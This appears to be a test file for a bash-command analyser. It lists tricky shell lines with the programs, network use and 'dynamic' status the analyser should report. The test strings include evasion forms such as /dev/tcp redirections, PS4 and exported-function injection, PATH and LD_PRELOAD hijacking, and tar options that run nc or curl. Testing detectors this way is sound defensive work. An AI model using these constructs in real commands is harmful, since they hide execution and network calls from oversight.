    ['find . "$x" curl {} +', {programs: ['find'], dynamic: true, background: false, dynamicReasons: ['find: a computed word may be -exec']}],
    ['find . -exec sh -c \\;', {programs: ['find', 'sh'], dynamic: false, background: false}],
    ['find . -exec sh -c +', {programs: ['find', 'sh'], dynamic: true, background: false}],
    ['tar', {programs: ['tar'], dynamic: false, background: false}],
    ['tar xIf wget a', {programs: ['tar', 'wget'], dynamic: false, background: false}],
    ['tar -x --file=a "$m"', {programs: ['tar'], dynamic: true, background: false, dynamicReasons: ['tar: a computed word may be an option that runs a command']}],
    ['tar -xf a Ix nc', {programs: ['tar'], dynamic: false, background: false}],
    ['git submodule foreach --recursive', {programs: ['git'], dynamic: false, background: false}],
    // quotes inside a double-quoted ${…}: '…' is characters and $'…' is decoded, and what they hold runs; not inside $(…) there, nor unquoted
    [`echo "\${x:-$'$(curl y)'}"`, {programs: ['echo', 'curl'], dynamic: false, background: false}],
    [`echo "$(echo \${x:-'$(curl y)'})"`, {programs: ['echo'], dynamic: false, background: false}],
    [`echo "\${x:-'plain'}"`, {programs: ['echo'], dynamic: false, background: false}],
    [`echo "\${x:-$'\\x41'}"`, {programs: ['echo'], dynamic: false, background: false}],
    ["echo ${x:-$'$(curl y)'}", {programs: ['echo'], dynamic: false, background: false}],
    [`echo "\${x:-$'\`nc q\`'}"`, {programs: ['echo', 'nc'], dynamic: false, background: false}],
    // wrappers: options, `--`, a lone `-`, assignments, environment options, a shell without a program
    ['sudo -- curl x', {programs: ['sudo', 'curl'], dynamic: false, background: false}],
    ['env "-$o" curl x', {programs: ['env'], dynamic: true, background: false}],
    ['timeout --signal=KILL 5 curl x', {programs: ['timeout', 'curl'], dynamic: false, background: false}],
    ['doas --foo curl x', {programs: ['doas', 'curl'], dynamic: false, background: false}],
    ['env --i curl x', {programs: ['env', 'curl'], dynamic: true, background: false, dynamicReasons: ['ambiguous option --i']}],
    ['nice - curl', {programs: ['nice', '-'], dynamic: false, background: false}],
    ['sudo -u root curl x', {programs: ['sudo', 'curl'], dynamic: false, background: false}],
    ['systemd-run -p CPUQuota=10% curl', {programs: ['systemd-run', 'curl'], dynamic: false, background: true}],
    ['systemd-run -E A=1 --setenv=B=2 curl', {programs: ['systemd-run', 'curl'], dynamic: false, background: true, env: ['A', 'B']}],
    ['nice A=1 curl', {programs: ['nice', 'A=1'], dynamic: false, background: false}],
    ['sudo A=1 B=2 curl', {programs: ['sudo', 'curl'], dynamic: false, background: false, env: ['A', 'B']}],
    ['echo x | xargs sudo', {programs: ['echo', 'xargs', 'sudo'], dynamic: true, background: false}],
    ['echo x | xargs chroot /srv', {programs: ['echo', 'xargs', 'chroot'], dynamic: true, background: false}],
    ['chroot /srv', {programs: ['chroot'], dynamic: true, background: false}],
    ['chroot /srv curl x', {programs: ['chroot', 'curl'], dynamic: false, background: false}],
    ['torsocks', {programs: ['torsocks'], dynamic: true, background: false}],
    ['doas -s', {programs: ['doas'], dynamic: true, background: false}],
    ['nice -5 curl', {programs: ['nice', 'curl'], dynamic: false, background: false}],
    ['command -v curl', {programs: ['command'], dynamic: false, background: false}],
    ['sudo -b curl', {programs: ['sudo', 'curl'], dynamic: false, background: true}],
    ['nohup curl', {programs: ['nohup', 'curl'], dynamic: false, background: true}],
    ['sudo -i', {programs: ['sudo'], dynamic: true, background: false}],
    ['sudo -s curl', {programs: ['sudo', 'curl'], dynamic: false, background: false}],
    // tar: every command option, in every form
    ["tar -cf a f --rsh-command='nc x'", {programs: ['tar', 'nc'], dynamic: false, background: false}],
    ['tar -xf a --use-compress-program=wget', {programs: ['tar', 'wget'], dynamic: false, background: false}],
    ['tar -xf a --info-script=curl', {programs: ['tar', 'sh', 'curl'], dynamic: false, background: false}],
    ['tar -xf a --new-volume-script ssh', {programs: ['tar', 'sh', 'ssh'], dynamic: false, background: false}],
    ['tar -cf a f --checkpoint-action=exec=nc', {programs: ['tar', 'sh', 'nc'], dynamic: false, background: false}],
    ['tar -cf a f --checkpoint-action=echo', {programs: ['tar'], dynamic: false, background: false}],
    ['tar -cf a f --checkpoint-action="$x"', {programs: ['tar'], dynamic: true, background: false, dynamicReasons: ['tar: a computed word may be an option that runs a command']}],
    ['tar -cf a f --checkpoint-action', {programs: ['tar'], dynamic: false, background: false}],
    ['tar xf a', {programs: ['tar'], dynamic: false, background: false}],
    ['tar "$x" -Icurl', {programs: ['tar'], dynamic: true, background: false, dynamicReasons: ['tar: a computed word may be an option that runs a command']}],
    ['tar -xf a -- --to-command=curl', {programs: ['tar'], dynamic: false, background: false}],
    ['tar -cf a f --che=exec=nc', {programs: ['tar'], dynamic: true, background: false, dynamicReasons: ['ambiguous option --che']}],
    ['tar -x -Icurl -f a', {programs: ['tar', 'curl'], dynamic: false, background: false}],
    ['tar - -I nc', {programs: ['tar', 'nc'], dynamic: false, background: false}],
    ['tar Ff nc a', {programs: ['tar', 'sh', 'nc'], dynamic: false, background: false}],
    ['tar cf a -F wget', {programs: ['tar', 'sh', 'wget'], dynamic: false, background: false}],
    ['tar -xvf a -F', {programs: ['tar'], dynamic: false, background: false}],
    ['tar -xf a "--to-command=$c"', {programs: ['tar'], dynamic: true, background: false, dynamicReasons: ['tar: a computed word may be an option that runs a command']}],
    ['tar -xf "$a" --to-command=nc', {programs: ['tar', 'sh', 'nc'], dynamic: false, background: false}],
    ['tar -xf a --to-comm="$c"', {programs: ['tar'], dynamic: true, background: false, dynamicReasons: ['tar: a computed word may be an option that runs a command']}],
    ['tar -C /tmp -xf a -I ssh', {programs: ['tar', 'ssh'], dynamic: false, background: false}],
  ])
})

describe('what a shell reads as its script from standard input, and redirection targets', () => {
  // bash applies redirections left to right: the last one to descriptor 0 is the script a shell
  // reads; a here-string or literal heredoc is read, /dev/null is empty, anything else is unseen
  // (dynamic). `<&N` only duplicates a descriptor; `~+`, `~-` and `~N` are directories cd and
  // pushd change, so a target under them may be anything (network)
  eachLine([
    ["bash <<< 'curl x'", {programs: ["bash","curl"], dynamic: false, redirects: [], network: false}],
    ["bash 0<<< 'curl x'", {programs: ["bash","curl"], dynamic: false, redirects: [], network: false}],
    ["bash <<< 'nc a' <<< 'curl x'", {programs: ["bash","curl"], dynamic: false, redirects: [], network: false}],
    ["bash <<< \"$x\"", {programs: ["bash"], dynamic: true, redirects: [], network: false}],
    ["bash < /dev/null", {programs: ["bash"], dynamic: false, redirects: ["/dev/null"], network: false}],
    ["bash < /tmp/f", {programs: ["bash"], dynamic: true, redirects: ["/tmp/f"], network: false}],
    ["bash <&3", {programs: ["bash"], dynamic: true, redirects: [], network: false}],
    ["bash <<< 'curl x' < /dev/null", {programs: ["bash"], dynamic: false, redirects: ["/dev/null"], network: false}],
    ["bash <<< 'curl x' 0< /dev/null", {programs: ["bash"], dynamic: false, redirects: ["/dev/null"], network: false}],
    ["bash <<< 'curl x' 1< /dev/null", {programs: ["bash","curl"], dynamic: false, redirects: ["/dev/null"], network: false}],
    ["bash <<EOF\ncurl x\nEOF", {programs: ["bash","curl"], dynamic: false, redirects: [], network: false}],
    ["bash <<'EOF'\n$(nc y)\nEOF", {programs: ["bash","nc"], dynamic: true, redirects: [], network: false}],
    ["bash <<EOF\n$x\nEOF", {programs: ["bash"], dynamic: true, redirects: [], network: false}],
    ["bash <<EOF\nc\\\\\nurl x\nEOF", {programs: ["bash","curl"], dynamic: false, redirects: [], network: false}],
    ["bash 3<<EOF\ncurl\nEOF", {programs: ["bash"], dynamic: true, redirects: [], network: false}],
    ["bash <<EOF\ncurl\nEOF\n", {programs: ["bash","curl"], dynamic: false, redirects: [], network: false}],
    ["bash <<EOF 3< /dev/null\nnc q\nEOF", {programs: ["bash","nc"], dynamic: false, redirects: ["/dev/null"], network: false}],
    ["bash <<\"E\"\n`nc z`\nE", {programs: ["bash","nc"], dynamic: true, redirects: [], network: false}],
    ["cat <<EOF\n`nc z` $(curl y)\nEOF", {programs: ["cat","nc","curl"], dynamic: false, redirects: [], network: false}],
    ["cat <<'EOF'\n`nc z`\nEOF", {programs: ["cat"], dynamic: false, redirects: [], network: false}],
    ["cat <<EOF\nno code\nEOF", {programs: ["cat"], dynamic: false, redirects: [], network: false}],
    ["echo >&2", {programs: ["echo"], dynamic: false, redirects: [], network: false}],
    ["echo >& /tmp/x", {programs: ["echo"], dynamic: false, redirects: ["/tmp/x"], network: false}],
    ["cat <&3", {programs: ["cat"], dynamic: false, redirects: [], network: false}],
    ["cat <& \"$fd\"", {programs: ["cat"], dynamic: false, redirects: ["\"$fd\""], network: false}],
    ["echo > ~/x", {programs: ["echo"], dynamic: false, redirects: ["~/x"], network: false}],
    ["echo > ~+/x", {programs: ["echo"], dynamic: false, redirects: ["~+/x"], network: true}],
    ["echo > ~-", {programs: ["echo"], dynamic: false, redirects: ["~-"], network: true}],
    ["echo > ~1/x", {programs: ["echo"], dynamic: false, redirects: ["~1/x"], network: true}],
    ["echo > ~user/x", {programs: ["echo"], dynamic: false, redirects: ["~user/x"], network: false}],
    ["cat < \"$f\"", {programs: ["cat"], dynamic: false, redirects: ["\"$f\""], network: true}],
    ["cat < /tmp/$f", {programs: ["cat"], dynamic: false, redirects: ["/tmp/$f"], network: false}],
    ["echo 2>&1-", {programs: ["echo"], dynamic: false, redirects: [], network: false}],
    ["echo >& \"$f\"", {programs: ["echo"], dynamic: false, redirects: ["\"$f\""], network: true}],
    ["echo &> /tmp/both", {programs: ["echo"], dynamic: false, redirects: ["/tmp/both"], network: false}],
    // shells: `-` and `--` end the options (the script then comes from standard input), a computed option, a startup file with and without `=`; backticks beside an expansion in a heredoc
    ["cat <<EOF\n${x:-`wget q`} `nc y`\nEOF", {programs: ["cat","nc","wget"], dynamic: false, redirects: [], network: false}],
    ["bash - <<< 'curl x'", {programs: ["bash","curl"], dynamic: false, redirects: [], network: false}],
    ["bash \"-$o\" <<< 'curl x'", {programs: ["bash"], dynamic: true, redirects: [], network: false}],
    ["bash --init-file=/tmp/r -c 'nc y'", {programs: ["bash","nc"], dynamic: true, redirects: [], network: false}],
    ["bash --init-file /tmp/r -c 'nc y'", {programs: ["bash","nc"], dynamic: true, redirects: [], network: false}],
    ["bash -- <<< 'nc y'", {programs: ["bash","nc"], dynamic: false, redirects: [], network: false}],
  ])
})

describe('names that get values: declarations, namerefs, ${NAME=word}, for', () => {
  // a nameref (`declare -n`, `typeset -n`, `local -n`; not `export -n` or `+n`) to a variable
  // whose assignments are checked makes the line dynamic: `declare -n r=PATH; r=/tmp; ls` sets PATH
  // (found in this review: PATH and LD_* were missing, only code variables and HOME were there)
  eachLine([
    ['declare -n r=PATH; r=/tmp; ls', {programs: ['declare', 'ls'], dynamic: true, background: false, env: ['r']}],
    ['typeset -n r=PATH', {programs: ['typeset'], dynamic: true, background: false, env: ['r']}],
    ['local -n r=LD_PRELOAD', {programs: ['local'], dynamic: true, background: false, env: ['r']}],
    ['export -n r=PATH', {programs: ['export'], dynamic: false, background: false, env: ['r']}],
    ['declare +n r=PATH', {programs: ['declare'], dynamic: false, background: false, env: ['r']}],
    ['declare -n r=x', {programs: ['declare'], dynamic: false, background: false, env: ['r']}],
    ['declare -rn r=PS4', {programs: ['declare'], dynamic: true, background: false, env: ['r']}],
    ['declare -n r=x y=PS4', {programs: ['declare'], dynamic: true, background: false, env: ['r', 'y']}],
    ['declare -n r="$x"', {programs: ['declare'], dynamic: true, background: false, env: ['r']}],
    ['declare -n r', {programs: ['declare'], dynamic: true, background: false}],
    ['declare -n r=PATH[0]', {programs: ['declare'], dynamic: true, background: false, env: ['r']}],
    ['declare "x=$y"', {programs: ['declare'], dynamic: false, background: false, env: ['x']}],
    ['declare "x+=$y"', {programs: ['declare'], dynamic: false, background: false, env: ['x']}],
    ['declare "PATH=$y"', {programs: ['declare'], dynamic: true, background: false, dynamicReasons: ['PATH= changes what runs'], env: ['PATH']}],
    ['declare "$y"', {programs: ['declare'], dynamic: true, background: false}],
    ["declare x='$(curl y)'", {programs: ['declare'], dynamic: true, background: false, env: ['x']}],
    ['declare x=nc y=curl', {programs: ['declare'], dynamic: false, background: false, env: ['x', 'y']}],
    ['export x+=sh', {programs: ['export'], dynamic: false, background: false, env: ['x']}],
    ['readonly a=1 b', {programs: ['readonly'], dynamic: false, background: false, env: ['a']}],
    ['declare -a arr=(1 2)', {programs: ['declare'], dynamic: false, background: false, env: ['arr']}],
    ['declare -- -x=1', {programs: ['declare'], dynamic: false, background: false}],
    ['printf -v PATH /tmp; ls', {programs: ['printf', 'ls'], dynamic: true, background: false, dynamicReasons: ['PATH= changes what runs']}],
    ['read PATH <<< /tmp; ls', {programs: ['read', 'ls'], dynamic: true, background: false, dynamicReasons: ['PATH= changes what runs']}],
    [': ${PATH=/tmp}; ls', {programs: [':', 'ls'], dynamic: true, background: false, dynamicReasons: ['PATH= changes what runs']}],
    [': ${PATH:=/tmp}; ls', {programs: [':', 'ls'], dynamic: true, background: false, dynamicReasons: ['PATH= changes what runs']}],
    [': ${PATH-/tmp}; ls', {programs: [':', 'ls'], dynamic: false, background: false}],
    [': ${!p=curl}', {programs: [':'], dynamic: true, background: false}],
    [': ${a[1]=curl}', {programs: [':'], dynamic: false, background: false}],
    [': ${PATH[0]=/tmp}; ls', {programs: [':', 'ls'], dynamic: true, background: false, dynamicReasons: ['PATH= changes what runs']}],
    [`: "\${PS4='$(curl x)'}"; set -x; :`, {programs: [':', 'curl', 'set'], dynamic: true, background: false}],
    [": ${PS4='$(curl x)'}; set -x; :", {programs: [':', 'curl', 'set'], dynamic: false, background: false}],
    [': ${PS4=}; set -x; :', {programs: [':', 'set'], dynamic: false, background: false}],
    ['for PATH in /tmp; do ls; done', {programs: ['ls'], dynamic: true, background: false, dynamicReasons: ['PATH= changes what runs']}],
    ['for x in /tmp; do ls; done', {programs: ['ls'], dynamic: false, background: false}],
    ["for PS4 in '$(curl x)'; do set -x; :; done", {programs: ['curl', 'set', ':'], dynamic: false, background: false}],
    ['for PS4; do :; done', {programs: [':'], dynamic: true, background: false}],
    ['select PATH in /tmp; do ls; done', {programs: ['ls'], dynamic: true, background: false, dynamicReasons: ['PATH= changes what runs']}],
  ])
})

describe('the walk: unset, prompt expansion, [[ ]], quotes read as characters, argv, time and !, descriptors', () => {
  // argv is set only for one simple command of literal words with no redirection or assignment;
  // `time` and `!` as the first word are reserved words; `0</dev/null` after a word is a descriptor
  eachLine([
    ["unset 'a[$(curl x)]'", {programs: ["unset"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["unset x y", {programs: ["unset"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["unset -v \"a[\\$(nc y)]\"", {programs: ["unset"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["unset -f f", {programs: ["unset"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["echo ${x@P}", {programs: ["echo"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["echo ${x@Q}", {programs: ["echo"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["echo \"${x@P}\"", {programs: ["echo"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["[[ -v 'a[$(curl y)]' ]]", {programs: [], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["[[ -v a ]]", {programs: [], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["[[ $(nc z) -eq 1 ]]", {programs: ["nc"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["[[ x -eq \"a[\\$(wget q)]\" ]]", {programs: [], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["cat '/dev/tcp/h/80'", {programs: ["cat"], dynamic: false, redirects: [], network: true, background: false, argv: ["cat","/dev/tcp/h/80"], env: []}],
    ["echo $'/dev/udp/h/53'", {programs: ["echo"], dynamic: false, redirects: [], network: true, background: false, argv: ["echo","/dev/udp/h/53"], env: []}],
    ["echo '/dev/null'", {programs: ["echo"], dynamic: false, redirects: [], network: false, background: false, argv: ["echo","/dev/null"], env: []}],
    ["echo \"${x:-'$(curl y)'}\"", {programs: ["echo","curl"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["echo ${x:-'$(curl y)'}", {programs: ["echo"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["echo \"${x:-'\\`nc q\\`'}\"", {programs: ["echo","nc"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["curl x &", {programs: ["curl"], dynamic: false, redirects: [], network: false, background: true, argv: undefined, env: []}],
    ["curl x # nc y", {programs: ["curl"], dynamic: false, redirects: [], network: false, background: false, argv: ["curl","x"], env: []}],
    ["ls -la /tmp", {programs: ["ls"], dynamic: false, redirects: [], network: false, background: false, argv: ["ls","-la","/tmp"], env: []}],
    ["ls x # comment", {programs: ["ls"], dynamic: false, redirects: [], network: false, background: false, argv: ["ls","x"], env: []}],
    ["ls x; ls y", {programs: ["ls"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["ls > f", {programs: ["ls"], dynamic: false, redirects: ["f"], network: false, background: false, argv: undefined, env: []}],
    ["X=1 ls", {programs: ["ls"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["X"]}],
    ["ls $x", {programs: ["ls"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["ls *.txt", {programs: ["ls"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["time -p curl x", {programs: ["time","curl"], dynamic: false, redirects: [], network: false, background: false, argv: ["time","-p","curl","x"], env: []}],
    ["time curl x", {programs: ["time","curl"], dynamic: false, redirects: [], network: false, background: false, argv: ["time","curl","x"], env: []}],
    ["! curl x", {programs: ["curl"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["time ! nc y", {programs: ["time","nc"], dynamic: false, redirects: [], network: false, background: false, argv: ["time","!","nc","y"], env: []}],
    ["! time -- wget", {programs: ["time","wget"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["time x= curl", {programs: ["time","curl"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["x"]}],
    ["time -p -- nc", {programs: ["time","nc"], dynamic: false, redirects: [], network: false, background: false, argv: ["time","-p","--","nc"], env: []}],
    ["time", {programs: ["time"], dynamic: false, redirects: [], network: false, background: false, argv: ["time"], env: []}],
    ["cat x 0</dev/null", {programs: ["cat"], dynamic: false, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
    ["bash 0</dev/null", {programs: ["bash"], dynamic: false, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
    ["sudo bash 0</dev/null", {programs: ["sudo","bash"], dynamic: false, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
    ["bash 3</dev/null", {programs: ["bash"], dynamic: true, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
    ["cat <<EOF x y\nhi\nEOF", {programs: ["cat"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["bash <<EOF > /tmp/o -x\ncurl q\nEOF", {programs: ["bash","curl"], dynamic: false, redirects: ["/tmp/o"], network: false, background: false, argv: undefined, env: []}],
    ["echo > a b c", {programs: ["echo"], dynamic: false, redirects: ["a"], network: false, background: false, argv: undefined, env: []}],
    // values bash expands or runs: prompt escapes read loosely (\044 is $), a heredoc delimiter inside the value, exported functions, subscripts, names given values by builtins (not environment), environment words, /dev//tcp
    ["PS4='\\044(curl x)'; set -x; :", {programs: ["curl","set",":"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["PS4"]}],
    ["PS4='\\$(nc y)'; set -x; :", {programs: ["nc","set",":"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["PS4"]}],
    ["PS4='\\w \\u'; set -x; :", {programs: ["set",":"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["PS4"]}],
    ["PS4='no code'; set -x; :", {programs: ["set",":"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["PS4"]}],
    ["PS4=$'GATEHOUSE_EOF\\n$(curl x)'; set -x; :", {programs: ["curl","set",":"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["PS4"]}],
    ["PS4='\\0$(wget z)'; set -x; :", {programs: ["wget","set",":"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["PS4"]}],
    ["PS4=\"$v\"; set -x; :", {programs: ["set",":"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: ["PS4"]}],
    ["PS4+='$(nc q)'; set -x; :", {programs: ["set",":"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: ["PS4"]}],
    ["env 'BASH_FUNC_f%%=() { curl x; }' bash -c f", {programs: ["env","curl","bash","f"], dynamic: false, redirects: [], network: false, background: false, argv: ["env","BASH_FUNC_f%%=() { curl x; }","bash","-c","f"], env: ["BASH_FUNC_f%%"]}],
    ["PATH[10]=/tmp; ls", {programs: ["ls"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: ["PATH"]}],
    ["read -r x", {programs: ["read"], dynamic: false, redirects: [], network: false, background: false, argv: ["read","-r","x"], env: []}],
    ["printf -v x %s 1", {programs: ["printf"], dynamic: false, redirects: [], network: false, background: false, argv: ["printf","-v","x","%s","1"], env: []}],
    ["sudo \"$v\" curl", {programs: ["sudo"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["systemd-run -E \"$v\" curl", {programs: ["systemd-run","curl"], dynamic: true, redirects: [], network: false, background: true, argv: undefined, env: []}],
    ["sudo \"A=$v\" curl", {programs: ["sudo"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["sudo \"PATH=$v\" curl", {programs: ["sudo"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["sudo A/B=1 curl", {programs: ["sudo","B=1","A/B=1"], dynamic: false, redirects: [], network: false, background: false, argv: ["sudo","A/B=1","curl"], env: []}],
    ["env X=/dev/tcp/h/80 curl", {programs: ["env","curl"], dynamic: false, redirects: [], network: true, background: false, argv: ["env","X=/dev/tcp/h/80","curl"], env: ["X"]}],
    ["env \"X=$v\" curl", {programs: ["env"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["cat '/dev//tcp/h/80'", {programs: ["cat"], dynamic: false, redirects: [], network: true, background: false, argv: ["cat","/dev//tcp/h/80"], env: []}],
    ["mapfile -C \"$c\" arr", {programs: ["mapfile"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["mapfile -C", {programs: ["mapfile"], dynamic: false, redirects: [], network: false, background: false, argv: ["mapfile","-C"], env: []}],
    ["BASH_ENV=/tmp/x bash -c ls", {programs: ["bash","ls"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: ["BASH_ENV"]}],
    ["BASH_ENV= bash -c ls", {programs: ["bash","ls"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["BASH_ENV"]}],
    ["HOME=/dev/tcp/h; cat < ~/80", {programs: ["cat"], dynamic: true, redirects: ["~/80"], network: true, background: false, argv: undefined, env: ["HOME"]}],
    ["HOME=/tmp; cat < ~/x\n", {programs: ["cat"], dynamic: true, redirects: ["~/x"], network: false, background: false, argv: undefined, env: ["HOME"]}],
    // words: an unquoted leading ~ without a slash is a home directory (computed), brace expansion with quotes, $"…" (a message catalog), arrays, network paths
    ["~foo x", {programs: [], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["'~foo' x", {programs: ["~foo"], dynamic: false, redirects: [], network: false, background: false, argv: ["~foo","x"], env: []}],
    ["~/bin/ls", {programs: ["ls","~/bin/ls"], dynamic: false, redirects: [], network: false, background: false, argv: ["~/bin/ls"], env: []}],
    ["~", {programs: [], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["\\~foo", {programs: ["~foo"], dynamic: false, redirects: [], network: false, background: false, argv: ["~foo"], env: []}],
    ["\"\"{,cu}rl", {programs: ["rl"], dynamic: false, redirects: [], network: false, background: false, argv: ["rl","curl"], env: []}],
    ["'{cu,x}'rl", {programs: ["{cu,x}rl"], dynamic: false, redirects: [], network: false, background: false, argv: ["{cu,x}rl"], env: []}],
    ["$\"curl\" x", {programs: [], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["\"cu\"rl x", {programs: ["curl"], dynamic: false, redirects: [], network: false, background: false, argv: ["curl","x"], env: []}],
    ["\"c$(nc y)url\" x", {programs: ["nc"], dynamic: true, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["echo \"a\\\"b\" \"$x\"", {programs: ["echo"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: []}],
    ["x[1]=curl", {programs: [], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["x"]}],
    ["x=(a \"$(nc y)\" b)", {programs: ["nc"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["x"]}],
    ["x+=(y)", {programs: [], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["x"]}],
    ["echo > /dev/tcp/h/1", {programs: ["echo"], dynamic: false, redirects: ["/dev/tcp/h/1"], network: true, background: false, argv: undefined, env: []}],
    ["echo \"/dev/tcp/$h/1\"", {programs: ["echo"], dynamic: false, redirects: [], network: true, background: false, argv: undefined, env: []}],
    ["echo a/dev/tcp/b\n", {programs: ["echo"], dynamic: false, redirects: [], network: true, background: false, argv: ["echo","a/dev/tcp/b"], env: []}],
    // redirections of a pipeline or group go to its last command; `}` after an assignment is a command; `!` before assignments; a number before a redirection
    ["echo | bash < /dev/null", {programs: ["echo","bash"], dynamic: false, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
    ["a | b > x", {programs: ["a","b"], dynamic: false, redirects: ["x"], network: false, background: false, argv: undefined, env: []}],
    ["{ a; b; } > x", {programs: ["a","b"], dynamic: false, redirects: ["x"], network: false, background: false, argv: undefined, env: []}],
    ["x= }", {programs: ["}"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["x"]}],
    ["! x=1 curl", {programs: ["curl"], dynamic: false, redirects: [], network: false, background: false, argv: undefined, env: ["x"]}],
    ["cat x 2 >/dev/null", {programs: ["cat"], dynamic: false, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
    ["cat x 2>/dev/null", {programs: ["cat"], dynamic: false, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
    ["bash x 0</dev/null", {programs: ["bash"], dynamic: true, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
    ["echo 10</dev/null", {programs: ["echo"], dynamic: false, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
    ["bash <<< 'curl x' > /dev/null | cat\n", {programs: ["bash","curl","cat"], dynamic: false, redirects: ["/dev/null"], network: false, background: false, argv: undefined, env: []}],
  ])
})

describe('handlers, second pass: the survivors of lines 684–1568 on 2026-12-03', () => {
  eachLine([
    // find: a computed word after -newerXY is its value; after anything else it may be -exec
    ['find . -newermt "$x" ls \\;', { programs: ['find'], dynamic: false }],
    ['find . -newermtx "$x" ls \\;', { programs: ['find'], dynamic: true }],
    ['find . a-newermt "$x" ls \\;', { programs: ['find'], dynamic: true }],
    ['find . -print "$x" ls \\;', { programs: ['find'], dynamic: true }],
    // were "$x" -exec, it would have no terminator after it: find refuses to start
    ['find . -exec ls \\; "$x" ls', { programs: ['find', 'ls'], dynamic: false }],
    // trap: -l and -p are its options, `-` resets the signals named after it, a lone name is a signal
    ['trap a-p curl INT', { programs: ['trap', 'a-p'], dynamic: false }],
    ["trap -lx 'curl y' INT", { programs: ['trap', '-lx'], dynamic: false }],
    ["trap - 'curl x' INT", { programs: ['trap'], dynamic: false }],
    ['trap curl INT', { programs: ['trap', 'curl'], dynamic: false }],
    ["trap 'x;id'", { programs: ['trap', 'x', 'id'], dynamic: false }],
    ["trap '$(id)x'", { programs: ['trap', 'id'], dynamic: true }],
    ['alias "$x"', { programs: ['alias'], dynamic: true }],
    ["source -- /dev/stdin <<< 'curl x'", { programs: ['source', 'curl'], dynamic: false }],
    ['printf', { programs: ['printf'], dynamic: false }],
    // --PATH is no -v NAME
    ['printf --PATH', { programs: ['printf'], dynamic: false }],
    // read -p takes a prompt, so "$x" is not a name
    ['read -p "$x" y', { programs: ['read'], dynamic: false }],
    ['compgen -V PATH x', { programs: ['compgen'], dynamic: true }],
    ["compgen -A '$(id)' x", { programs: ['compgen'], dynamic: false }],
    ['hash "$x"', { programs: ['hash'], dynamic: true }],
    ['watch "$x" ls', { programs: ['watch'], dynamic: true }],
    ['watch -n 1', { programs: ['watch'], dynamic: false }],
    ['flock "$x" ls', { programs: ['flock'], dynamic: true }],
    ['sg grp', { programs: ['sg', 'sh'], dynamic: true }],
    ['sg grp ls "$x"', { programs: ['sg', 'sh'], dynamic: true }],
    // at -l lists the queue; -f names a file of commands, whatever standard input holds
    ['at -q a -l', { programs: ['at'], dynamic: false }],
    ['at -f x now <<< ls', { programs: ['at'], dynamic: true }],
    ['at now <<< ls', { programs: ['at', 'ls'], dynamic: false }],
    // ip: -batch in every abbreviation ip accepts; netns (3 letters or more) and vrf objects, then exec
    ['ip -ba f', { programs: ['ip'], dynamic: true, dynamicReasons: ['ip -batch reads commands from a file'] }],
    ['ip -bat f', { programs: ['ip'], dynamic: true }],
    ['ip -batc f', { programs: ['ip'], dynamic: true }],
    ['ip link show dev x-b', { programs: ['ip'], dynamic: false }],
    // `ip n` and `ip ne` are neighbour; ip has no object '' or rf, and e before the object is no exec
    ['ip ne exec curl', { programs: ['ip'], dynamic: false }],
    ['ip n exec curl', { programs: ['ip'], dynamic: false }],
